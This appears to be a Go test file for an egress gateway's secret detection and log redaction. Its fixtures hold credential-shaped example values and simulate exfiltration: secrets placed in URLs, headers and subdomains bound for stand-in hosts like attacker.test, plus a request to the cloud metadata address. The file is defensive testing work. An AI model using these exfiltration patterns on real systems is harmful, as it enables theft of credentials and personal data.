package egress

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"
)

// ExampleValues are one example value per detector (and per common secret rule): what no record
// may hold, in any form the gateway could write it (as sent, lower-cased, percent-encoded).
// TestRecordsWithoutSecrets sends them in every part of a request under several profiles; the
// daemon's test sends some of them from a real sandbox and greps the audit log.
var ExampleValues = map[string]string{
	"aws-access-token":     "AKIAIOSFODNN7EXAMPLE",
	"github-pat":           "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",
	"aws-secret (entropy)": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	"payment-card":         "4111111111111111",
	"jwt":                  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
	"email":                "john.doe@example.com",
	"phone":                "+14155552671",
	"iban":                 "DE89370400440532013000",
	"us-ssn":               "536-22-8726",
	"crypto-address":       "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
	"crypto-private-key":   "5HueCGU8rMjxEXxiPuD5BDku4MkFqeZyd4dZ1jvhTVqvbTLvyTJ",
	"seed-phrase":          "abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about",
	"private-key":          "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDmQ5h1MR4ACwNLFqMPsVcV5mKvTw5h2fvCxGz1wv2LmQAAAJgrtPmYK7T5\n-----END OPENSSH PRIVATE KEY-----",
}

// forms are the ways a value could appear in a record.
func forms(v string) []string {
	out := []string{v, strings.ToLower(v), url.QueryEscape(v), url.PathEscape(v)}
	if len(v) > 40 {
		out = append(out, v[:40]) // a value cut by an excerpt is still a leak
	}
	return out
}

// leaks returns the detectors whose example appears in s.
func leaks(s string) []string {
	var out []string
	for det, v := range ExampleValues {
		for _, f := range forms(v) {
			if len(f) >= 12 && strings.Contains(s, f) {
				out = append(out, det)
				break
			}
		}
	}
	return out
}

// Every record kind the gateway emits (events, alerts, the reason a session is ended with) holds
// no detector's example, whatever part of the request carried it, under a profile that blocks, one
// that only warns and logs, one without DLP, and for requests the policy or the SSRF guard
// refused before DLP looked.
func TestRecordsWithoutSecrets(t *testing.T) {
	profiles := map[string]string{
		"enforce": exfilPolicy,
		"warn":    strings.Replace(strings.Replace(exfilPolicy, "mode: enforce", "mode: warn", 1), "block", "log", -1),
		"no-dlp":  "name: exfil\nmode: enforce\nallow: [\"*.attacker.test\", api.allowed.test]\nentropy: {action: \"off\"}\nhostnames: {action: \"off\"}\nalerts: {threshold: 2, window: 1m, end_session: true}\n",
		"denied":  "name: exfil\nmode: enforce\nallow: [api.allowed.test]\ndlp: {actions: {secret: block}}\nalerts: {threshold: 2, window: 1m, end_session: true}\n",
	}
	for pname, pol := range profiles {
		t.Run(pname, func(t *testing.T) {
			pol = strings.Replace(pol, "alerts: {threshold: 0}", "alerts: {threshold: 2, window: 1m, end_session: true}", 1)
			f := newFixture(t, pol, NewDLPInspector())
			var reasons []string
			f.g.opts.EndSession = func(_, reason string) { reasons = append(reasons, reason) }
			for det, v := range ExampleValues {
				single := strings.ReplaceAll(v, "\n", "")
				reqs := []struct {
					u string
					h map[string]string
				}{
					{"https://api.allowed.test/p/" + url.PathEscape(v), nil},
					{"https://api.allowed.test/q?v=" + url.QueryEscape(v) + "&x=1", nil},
					{"http://api.allowed.test/h", map[string]string{"X-Data": single}},
					{"https://api.allowed.test/h", map[string]string{"Authorization": "Bearer " + single}},
					{"https://unknown.attacker.test/" + url.PathEscape(v), nil},
					{"http://169.254.169.254/latest?k=" + url.QueryEscape(v), nil},
				}
				if hostSafe(v) {
					reqs = append(reqs, struct {
						u string
						h map[string]string
					}{"https://" + v + ".attacker.test/", nil}, struct {
						u string
						h map[string]string
					}{"http://x." + strings.ToLower(v) + ".attacker.test/", nil})
				}
				for _, r := range reqs {
					f.do(t, "GET", r.u, "", r.h)
				}
				_ = det
			}
			time.Sleep(50 * time.Millisecond) // alerts' end-session calls run in goroutines
			f.rec.mu.Lock()
			defer f.rec.mu.Unlock()
			if len(f.rec.events) < 40 {
				t.Fatalf("only %d events", len(f.rec.events))
			}
			for _, ev := range f.rec.events {
				b, _ := json.Marshal(ev)
				if l := leaks(string(b)); len(l) > 0 {
					t.Errorf("event holds %v: %s", l, b)
				}
			}
			for _, al := range f.rec.alerts {
				b, _ := json.Marshal(al)
				if l := leaks(string(b)); len(l) > 0 {
					t.Errorf("alert holds %v: %s", l, b)
				}
			}
			for _, r := range reasons {
				if l := leaks(r); len(l) > 0 {
					t.Errorf("the session's end reason holds %v: %s", l, r)
				}
			}
		})
	}
}

// hostSafe says whether v can be a host label.
func hostSafe(v string) bool {
	for _, c := range v {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-') {
			return false
		}
	}
	return len(v) <= 63
}

// The redaction of one event, field by field: what is found is replaced by its token, what is
// not is left as it was.
func TestRedactEvent(t *testing.T) {
	f := newFixture(t, exfilPolicy, NewDLPInspector())
	p, _ := f.g.Profile("exfil")
	ev := Event{
		URL:     "https://AKIAIOSFODNN7EXAMPLE.attacker.test:8443/v1/users/john.doe@example.com/cards?card=4111111111111111&page=2&id=550e8400-e29b-41d4-a716-446655440000#frag",
		Headers: map[string]string{"X-Token": "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", "Accept": "application/json"},
		Reason:  "denied: egress to GET akiaiosfodnn7example.attacker.test:8443/v1/users/john.doe@example.com/cards is not allowed",
	}
	f.g.redactEvent(&ev, p)
	b, _ := json.Marshal(ev)
	if l := leaks(string(b)); len(l) > 0 {
		t.Fatalf("leaks %v: %s", l, b)
	}
	for _, want := range []string{"attacker.test:8443", "/v1/users/", "page=2", "id=550e8400-e29b-41d4-a716-446655440000", "[REDACTED:payment-card]", "[REDACTED:email]"} {
		if !strings.Contains(ev.URL, want) {
			t.Errorf("URL %q lacks %q", ev.URL, want)
		}
	}
	if strings.Contains(ev.URL, "#frag") {
		t.Errorf("the fragment was kept: %s", ev.URL)
	}
	if ev.Headers["Accept"] != "application/json" || !strings.Contains(ev.Headers["X-Token"], "REDACTED") {
		t.Errorf("headers %v", ev.Headers)
	}
	if !strings.Contains(ev.Reason, "is not allowed") {
		t.Errorf("reason %q", ev.Reason)
	}
	// A clean event is left as it was.
	clean := Event{URL: "https://api.allowed.test/v1/x?page=2", Headers: map[string]string{"Accept": "*/*"}, Reason: "ok"}
	want := clean
	f.g.redactEvent(&clean, p)
	if clean.URL != want.URL || clean.Reason != want.Reason || clean.Headers["Accept"] != "*/*" {
		t.Fatalf("a clean event changed: %+v", clean)
	}
	// An IPv6 address keeps its brackets when the path is rewritten.
	v6 := Event{URL: "http://[2001:db8::1]:8080/cards/4111111111111111"}
	f.g.redactEvent(&v6, p)
	if v6.URL != "http://[2001:db8::1]:8080/cards/[REDACTED:payment-card]" {
		t.Errorf("IPv6: %s", v6.URL)
	}
	// A tunnel's event: host:port.
	tun := Event{URL: "x7kq2zt9mbw4nf8hr3vj6pld5gc2ys7w.attacker.test:443"}
	f.g.redactEvent(&tun, p)
	if tun.URL != "[REDACTED:hostname].attacker.test:443" {
		t.Fatalf("tunnel: %s", tun.URL)
	}
}

func BenchmarkRedactEvent(b *testing.B) {
	f := newFixture(b, exfilPolicy, NewDLPInspector())
	p, _ := f.g.Profile("exfil")
	for b.Loop() {
		ev := Event{URL: "https://origin.bench.test:8443/", Headers: map[string]string{"User-Agent": "Go-http-client/1.1", "Accept-Encoding": "gzip"}, Reason: ""}
		f.g.redactEvent(&ev, p)
	}
}
